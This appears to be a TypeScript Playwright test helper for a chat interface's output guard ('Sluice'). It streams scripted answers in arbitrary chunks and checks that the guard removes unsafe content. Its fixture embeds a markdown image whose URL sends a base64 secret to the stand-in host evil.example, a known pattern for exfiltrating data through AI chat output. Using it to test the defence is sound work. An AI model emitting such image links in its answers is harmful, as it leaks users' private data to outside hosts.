/** Answers that a page reads, cut at will, and what the guard said of them. */
import type { Page } from "@playwright/test";
import type { ChatServer } from "../pages/chat/server";

export const SECRET = "QXBwbGUgdmF1bHQgMTIzNDU2Nzg5MCBmb3IgQWRh"; // base64 of words
export const BAD = `https://evil.example/p.png?d=${SECRET}`;
export const GONE = "removed by Sluice: evil.example";
export const TEXT = `Größe – see ![x](${BAD}) and [docs](https://docs.example/a).`;
export const SAFE = TEXT.replace(BAD, GONE);

export const patch = (v: string) => `event: delta\ndata: ${JSON.stringify({ v })}\n\n`;
export const patches = (text: string, size: number) =>
  (text.match(new RegExp(`.{1,${size}}`, "gsu")) ?? []).map(patch).join("") + "data: [DONE]\n\n";

/** Bytes cut without any regard to lines or letters. */
export function cut(text: string, size: number): Uint8Array[] {
  const bytes = new TextEncoder().encode(text);
  return Array.from({ length: Math.ceil(bytes.length / size) }, (_, at) =>
    bytes.slice(at * size, (at + 1) * size),
  );
}

export function read(
  page: Page,
  script: string,
  how: "text" | "reader" | "byob" | "xhr",
): Promise<string> {
  return page.evaluate(
    async ([name, way]) => {
      const url = `${window.target}?script=${name}`;
      const body = window.bodyOf("Good question");
      if (way === "xhr")
        return new Promise<string>((resolve) => {
          const xhr = new XMLHttpRequest();
          xhr.open("POST", url);
          let last = "";
          xhr.onprogress = () => {
            if (!xhr.responseText.startsWith(last)) resolve(`went back at ${last.length}`);
            last = xhr.responseText;
          };
          xhr.onload = () =>
            resolve(xhr.responseText.startsWith(last) ? String(xhr.response) : "went back");
          xhr.send(body);
        });
      const response = await fetch(url, { method: "POST", body });
      if (way === "text" || !response.body) return response.text();
      let text = "";
      const decoder = new TextDecoder();
      if (way === "byob") {
        const reader = response.body.getReader({ mode: "byob" });
        for (let view = new Uint8Array(16); ;) {
          const { done, value } = await reader.read(view);
          if (value) text += decoder.decode(value, { stream: true });
          if (done || !value) return text;
          view = new Uint8Array(value.buffer);
        }
      }
      const reader = response.body.getReader();
      for (;;) {
        const { done, value } = await reader.read();
        if (done) return text + decoder.decode();
        text += decoder.decode(value, { stream: true });
      }
    },
    [script, how] as const,
  );
}

export function answerClaims(page: Page): Promise<string[]> {
  return page.evaluate(() =>
    window.guardLog.claims.flatMap((claim) =>
      claim.type === "answer" ? [`${claim.what} ${claim.host} ${claim.removed}`] : [],
    ),
  );
}

export function said(stream: string): string {
  return stream
    .split("\n")
    .filter((line) => line.startsWith("data: {"))
    .map((line) => (JSON.parse(line.slice(6)) as { v: string }).v)
    .join("");
}

export function scriptText(chat: ChatServer, text: string): Promise<void> {
  chat.script("plain", { type: "text/plain", pieces: [text] });
  return Promise.resolve();
}
